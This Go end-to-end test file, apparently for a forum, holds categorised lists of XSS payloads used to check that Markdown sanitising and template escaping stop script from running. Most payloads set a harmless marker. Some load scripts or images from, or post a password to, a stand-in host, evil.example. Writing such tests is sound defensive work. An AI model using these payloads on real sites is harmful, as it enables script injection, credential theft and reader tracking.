package e2e

import "strings"

// The XSS payloads. Each one, if the browser ever ran it, would leave a
// mark the checks look for: window.__xss set, or document.title changed
// to "XSS". (The CSP would block most of them even then, and the tabs
// fail on CSP violations too; the DOM checks in xss_test.go do not rely
// on either.) The groups follow the ways member-written text reaches a
// page: Markdown that is rendered and sanitised, and plain text that
// html/template escapes in element, attribute, URL and RCDATA contexts.
//
// Payloads are kept short where they can be, because titles (140),
// category names (80), circle names (60) and shown names (40) are cut
// to fit; the long ones test the limits and the parsers' stamina.

// xssPayloads returns every payload, in a fixed order; TestXSS checks
// that they are distinct.
func xssPayloads() []string {
	var all []string
	for _, g := range [][]string{
		scriptPayloads, handlerPayloads, markdownLinkPayloads, autolinkPayloads,
		imagePayloads, elementPayloads, cssPayloads, breakoutPayloads,
		templatePayloads, unicodePayloads, markdownPayloads, longPayloads(),
	} {
		all = append(all, g...)
	}
	return all
}

// scriptPayloads are script elements, bare and behind every end tag a
// template might put the text after.
var scriptPayloads = []string{
	`<script>__xss=1</script>`,
	`<SCRIPT>__xss=1</SCRIPT>`,
	`<script>window.__xss=(window.__xss||0)+1</script>`,
	`<script>document.title='XSS'</script>`,
	`<script type=module>__xss=1</script>`,
	`<script src=data:,__xss=1></script>`,
	`<script src="//evil.example/x.js"></script>`,
	`<script/x>__xss=1</script>`,
	"<script\n>__xss=1</script\n>",
	"<script\t>__xss=1</script>",
	`<scr<script>ipt>__xss=1</scr</script>ipt>`,
	`<<script>__xss=1//<</script>`,
	`<script>/*<!--*/__xss=1//--></script>`,
	`"><script>__xss=1</script>`,
	`'><script>__xss=1</script>`,
	`</textarea><script>__xss=1</script>`,
	`</title><script>__xss=1</script>`,
	`</script><script>__xss=1</script>`,
	`</style><script>__xss=1</script>`,
	`</noscript><script>__xss=1</script>`,
	`</p></div></main><script>__xss=1</script>`,
	`</pre></code><script>__xss=1</script>`,
	`<!--<script>__xss=1</script>-->`,
	`--><script>__xss=1</script>`,
	`<script>eval(atob('X194c3M9MQ=='))</script>`,
}

// handlerPayloads are event handler attributes, most of which fire
// without anyone touching the page.
var handlerPayloads = []string{
	`<img src=x onerror=__xss=1>`,
	`<IMG SRC=x ONERROR=__xss=1>`,
	`<img src=x onerror="window.__xss=(window.__xss||0)+1">`,
	`<img src=x:x onerror=document.title='XSS'>`,
	`<img/src=x/onerror=__xss=1>`,
	`<img src=x onerror=&#95;&#95;xss=1>`,
	`<img src=x onerror=\u005f_xss=1>`,
	`<img src=x onerror=__xss=1//`,
	`<img src="x" onerror="__xss=1"`,
	`<img src=x onerror=eval(atob('X194c3M9MQ=='))>`,
	"<img src=x onerror=`${__xss=1}`>",
	`<svg onload=__xss=1>`,
	`<svg/onload=__xss=1>`,
	`<svg><g onload=__xss=1></g></svg>`,
	`<svg><animate onbegin=__xss=1 attributeName=x dur=1s>`,
	`<svg><set onbegin=__xss=1 attributeName=x to=1>`,
	`<body onload=__xss=1>`,
	`<frameset onload=__xss=1>`,
	`<input autofocus onfocus=__xss=1>`,
	`<textarea autofocus onfocus=__xss=1>`,
	`<details open ontoggle=__xss=1>`,
	`<video><source onerror=__xss=1></video>`,
	`<video src=x onerror=__xss=1>`,
	`<iframe onload=__xss=1>`,
	`<marquee onstart=__xss=1>`,
	`<div onmouseover=__xss=1>hover</div>`,
	`<a href="https://example.org" onmouseover=__xss=1>hover</a>`,
	`<a onclick=__xss=1>click</a>`,
	`<x contenteditable onblur=__xss=1>focus me`,
	`<object data=x onerror=__xss=1>`,
	`<link rel=stylesheet href=x onerror=__xss=1>`,
	`<form><button formaction=javascript:__xss=1>x</button></form>`,
	`<div onanimationstart=__xss=1 style=animation-name:x>`,
	`<img src=x onerror` + "\u00a0" + `=__xss=1>`,
}

// markdownLinkPayloads are inline and reference links to script URLs,
// spelled every way a browser would still run.
var markdownLinkPayloads = []string{
	`[x](javascript:__xss=1)`,
	`[x](JaVaScRiPt:__xss=1)`,
	`[x](JAVASCRIPT:document.title='XSS')`,
	`[x](javascript:window.__xss=(window.__xss||0)+1)`,
	`[x](javascript&colon;__xss=1)`,
	`[x](javascript&#58;__xss=1)`,
	`[x](javascript&#x3A;__xss=1)`,
	`[x](javascript&#0000058__xss=1)`,
	`[x](&#106;avascript:__xss=1)`,
	`[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;__xss=1)`,
	`[x](java&#09;script:__xss=1)`,
	`[x](java&#x0A;script:__xss=1)`,
	`[x](javas&#0;cript:__xss=1)`,
	`[x](java&Tab;script:__xss=1)`,
	`[x](javascript\:__xss=1)`,
	`[x](<javascript:__xss=1>)`,
	`[x]( javascript:__xss=1 )`,
	`[x](javascript://%0a__xss=1)`,
	`[x](javascript:__xss=1 "title")`,
	`[x](vbscript:msgbox(1))`,
	`[x](livescript:__xss=1)`,
	`[x](data:text/html,<script>__xss=1</script>)`,
	`[x](data:text/html;base64,PHNjcmlwdD5fX3hzcz0xPC9zY3JpcHQ+)`,
	`[x](data:image/svg+xml,<svg onload=__xss=1>)`,
	`[x](%6A%61%76%61%73%63%72%69%70%74%3A__xss=1)`,
	`[x](javascript` + "\uff1a" + `__xss=1)`,
	"[x](java\u00adscript:__xss=1)",
	"[x](\u0001javascript:__xss=1)",
	"[x](\u200bjavascript:__xss=1)",
	"[x][r]\n\n[r]: javascript:__xss=1",
	"[x][r]\n\n[r]: <javascript:__xss=1> \"t\"",
	"[r]\n\n[r]: javascript:__xss=1",
	"- [x](javascript:__xss=1)",
	"> [x](javascript:__xss=1)",
	`[x](https://example.org" onmouseover="__xss=1)`,
	`[x](https://example.org/"><script>__xss=1</script>)`,
	`[x](https://example.org "t\" onmouseover=__xss=1 x=\"")`,
	`[x](https://example.org (x" onmouseover=__xss=1))`,
	`[<img src=x onerror=__xss=1>](https://example.org)`,
	`[x](https://example.org/?q=<script>__xss=1</script>)`,
	`[x](/forum/members/Havbris" onmouseover="__xss=1)`,
	`[x](//evil.example/%2e%2e)`,
	`[x](/\evil.example)`,
	`[@Havbris](javascript:__xss=1)`,
}

// autolinkPayloads are autolinks and the addresses Linkify turns into
// links on its own.
var autolinkPayloads = []string{
	`<javascript:__xss=1>`,
	`<vbscript:__xss=1>`,
	`<data:text/html,<script>__xss=1</script>>`,
	`<https://example.org/"onmouseover="__xss=1">`,
	`<https://example.org/><script>__xss=1</script>`,
	`<mailto:x@example.org?body=<script>__xss=1</script>>`,
	`javascript:__xss=1`,
	`https://example.org/<script>__xss=1</script>`,
	`https://example.org/"onmouseover="__xss=1"`,
	`www.example.org/"onmouseover="__xss=1`,
	`x@example.org"onmouseover="__xss=1`,
	`www.javascript:__xss=1`,
}

// imagePayloads are Markdown images: remote ones would track readers,
// script ones would run.
var imagePayloads = []string{
	`![x](https://evil.example/track.png)`,
	`![x](javascript:__xss=1)`,
	`![x](x" onerror="__xss=1)`,
	`![x" onerror="__xss=1](https://evil.example/x.png)`,
	`![x](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iX194c3M9MSIvPg==)`,
	"![x][img]\n\n[img]: https://evil.example/track.png",
	`[![x](https://evil.example/x.png)](javascript:__xss=1)`,
	`![<img src=x onerror=__xss=1>](x)`,
	`![x](https://evil.example/x.png "t\" onerror=\"__xss=1")`,
}

// elementPayloads are elements that load, frame or redirect.
var elementPayloads = []string{
	`<iframe src=javascript:__xss=1>`,
	`<iframe src="data:text/html,<script>parent.__xss=1</script>">`,
	`<iframe srcdoc="<script>parent.__xss=1</script>">`,
	`<object data=javascript:__xss=1>`,
	`<embed src=javascript:__xss=1>`,
	`<embed src="data:image/svg+xml,<svg onload=__xss=1>">`,
	`<portal src=https://evil.example>`,
	`<base href=javascript:/>`,
	`<base href="https://evil.example/">`,
	`<meta http-equiv=refresh content="0;url=javascript:__xss=1">`,
	`<meta http-equiv="refresh" content="0; url=data:text/html,<script>__xss=1</script>">`,
	`<meta http-equiv=Content-Security-Policy content="script-src *">`,
	`<form action=javascript:__xss=1><button>x</button></form>`,
	`<form action=https://evil.example><input name=password></form>`,
	`<a href=javascript:__xss=1>x</a>`,
	`<a href="jav&#x09;ascript:__xss=1">x</a>`,
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__xss=1">x</a>`,
	`<a href=data:text/html,<script>__xss=1</script>>x</a>`,
	`<a href="https://evil.example" target=_blank rel=opener>x</a>`,
	`<svg><a xlink:href=javascript:__xss=1><text x=9 y=9>x</text></a></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=__xss=1 /></svg>#x"/></svg>`,
	`<svg><use href=//evil.example/x.svg#x /></svg>`,
	`<svg><script>__xss=1</script></svg>`,
	`<svg><foreignObject><img src=x onerror=__xss=1></foreignObject></svg>`,
	`<math><maction actiontype=statusline xlink:href=javascript:__xss=1>x</maction></math>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=__xss=1>`,
	`<svg></p><style><a id="</style><img src=1 onerror=__xss=1>">`,
	`<noscript><p title="</noscript><img src=x onerror=__xss=1>">`,
	`<template><img src=x onerror=__xss=1></template>`,
	`<xmp><img src=x onerror=__xss=1></xmp>`,
	`<textarea><img src=x onerror=__xss=1></textarea>`,
	`<link rel=import href="data:text/html,<script>__xss=1</script>">`,
	`<div id=posts data-live data-thread=1>clobber</div>`,
	`<img name=getElementById><form id=live-status>`,
}

// cssPayloads are style sheets and style attributes: script in old
// browsers, overlays and tracking in new ones.
var cssPayloads = []string{
	`<style>body{background:url(javascript:__xss=1)}</style>`,
	`<style>@import 'https://evil.example/x.css';</style>`,
	`<div style="background:url(javascript:__xss=1)">x</div>`,
	`<div style="width:expression(__xss=1)">x</div>`,
	`<p style="position:fixed;inset:0;z-index:9">overlay</p>`,
	`<div style="background-image:url(https://evil.example/t.png)">x</div>`,
	`<x style="x:\65xpression(__xss=1)">`,
	`<STYLE>li{list-style-image:url("javascript:__xss=1")}</STYLE><UL><LI>x</UL>`,
	`<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=__xss=1>`,
}

// breakoutPayloads try to leave the context the text is put in: an
// attribute, a textarea, the title, a script string.
var breakoutPayloads = []string{
	`"><img src=x onerror=__xss=1>`,
	`'><img src=x onerror=__xss=1>`,
	`" onmouseover="__xss=1`,
	`" autofocus onfocus="__xss=1`,
	`" value="x" onfocus="__xss=1" autofocus x="`,
	`" type="image" src="x" onerror="__xss=1`,
	`"/><base href="https://evil.example/">`,
	`'-(__xss=1)-'`,
	`'-alert(1)-'`,
	`";__xss=1;//`,
	`\";__xss=1;//`,
	`"><svg/onload=__xss=1>`,
	`</textarea><img src=x onerror=__xss=1>`,
	`</title><img src=x onerror=__xss=1>`,
	`-->"><img src=x onerror=__xss=1>`,
	`&lt;script&gt;__xss=1&lt;/script&gt;`,
	`&#60;script&#62;__xss=1&#60;/script&#62;`,
	`\x3cscript\x3e__xss=1\x3c/script\x3e`,
	`\u003cscript\u003e__xss=1\u003c/script\u003e`,
	`%3Cscript%3E__xss=1%3C/script%3E`,
	`javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+__xss=1//'>`,
	"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=__xss=1 )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=__xss=1//>\\x3e",
	`"'><script>__xss=1</script><"'`,
	`<a href="#" title="x' onmouseover='__xss=1">x</a>`,
}

// templatePayloads are template and placeholder syntax, in case text is
// ever run through a template or a message catalogue twice.
var templatePayloads = []string{
	`{{.}}`,
	`{{template "post" .}}`,
	`{{define "x"}}<script>__xss=1</script>{{end}}`,
	`{{printf "%s" "<script>__xss=1</script>"}}`,
	`{{7*7}}`,
	`{{constructor.constructor('__xss=1')()}}`,
	`${__xss=1}`,
	`<%= __xss=1 %>`,
	`{pseudonym}{name}{count}{note}<b>x</b>`,
	`{name}<script>__xss=1</script>`,
}

// unicodePayloads hide the markup behind look-alike, invisible or
// forbidden characters.
var unicodePayloads = []string{
	"<scr\x00ipt>__xss=1</scr\x00ipt>",
	"<img src=x onerror=__xss=1\x00>",
	"\x00<script>__xss=1</script>",
	"\uff1cscript\uff1e__xss=1\uff1c/script\uff1e",
	"<script\u200b>__xss=1</script>",
	"\ufeff<script>__xss=1</script>",
	"\u2028<script>__xss=1</script>\u2029",
	"\u202e>tpircs/<1=ssx__>tpircs<",
	"<a href=\"java\u00adscript:__xss=1\">x</a>",
	"<\u017fcript>__xss=1</\u017fcript>",
	"<\u0131mg src=x onerror=__xss=1>",
	"<scr\u0456pt>__xss=1</scr\u0456pt>",
	"<s\u0338cript>__xss=1</script>",
	"\x01\x02\x1b[31m<script>__xss=1</script>",
	"%00<script>__xss=1</script>",
	"\xc0\xbcscript\xc0\xbe__xss=1\xc0\xbc/script\xc0\xbe",
	"<img src=x onerror=__xss=1 \xff>",
	"\u0130<img src=x onerror=__xss=1>",
}

// markdownPayloads put markup inside Markdown constructs, and Markdown
// around markup.
var markdownPayloads = []string{
	"```html\n<script>__xss=1</script>\n```",
	"`<script>__xss=1</script>`",
	"    <script>__xss=1</script>",
	"<div>\n<script>__xss=1</script>\n</div>",
	"<details><summary>x</summary><script>__xss=1</script></details>",
	"# <script>__xss=1</script>",
	"Setext\n===\n<img src=x onerror=__xss=1>",
	"| a |\n|---|\n| <script>__xss=1</script> |",
	"- [ ] <img src=x onerror=__xss=1>",
	"[^1]\n\n[^1]: <script>__xss=1</script>",
	"<!-- --><script>__xss=1</script><!-- -->",
	`<?xml version="1.0"?><script>__xss=1</script>`,
	"<!DOCTYPE html><script>__xss=1</script>",
	`\<script>__xss=1\</script>`,
	"[x](https://example.org)<script>__xss=1</script>",
	"@Havbris<script>__xss=1</script>",
	"@Havbris](javascript:__xss=1)",
	"`@Havbris` <img src=x onerror=__xss=1>",
	"<a href='https://example.org'>@Havbris</a>",
	"1. x\n2. <svg onload=__xss=1>",
	"<ol start=\"1 onmouseover=__xss=1\"><li>x</li></ol>",
	"1000000000. <img src=x onerror=__xss=1>",
	"<h1>x</h1><h2 onclick=__xss=1>y</h2>",
	"> <blockquote cite=javascript:__xss=1>x</blockquote>",
	"<pre><code class=\"language-js\" onmouseover=__xss=1>x</code></pre>",
	"<strong>x</strong><em title=x>y</em>",
	"<a href=\"https://example.org\" rel=\"nofollow ugc noopener\" id=x class=button>x</a>",
}

// longPayloads test the length limits and the parsers' stamina.
func longPayloads() []string {
	return []string{
		strings.Repeat("<script>__xss=1</script>", 700),
		`<a href="` + strings.Repeat("A", 5000) + `" onmouseover=__xss=1>x</a>`,
		strings.Repeat("[", 3000) + "x](javascript:__xss=1)" + strings.Repeat(")", 200),
		strings.Repeat("> ", 400) + "<script>__xss=1</script>",
		strings.Repeat("x", 139) + "<script>__xss=1</script>",
		strings.Repeat(" ", 60) + "<img src=x onerror=__xss=1>",
		strings.Repeat("<b>", 2000) + "<img src=x onerror=__xss=1>",
		strings.Repeat("\n", 500) + "<script>__xss=1</script>",
		strings.Repeat("a", 19990) + "<svg/onload=__xss=1>",
	}
}
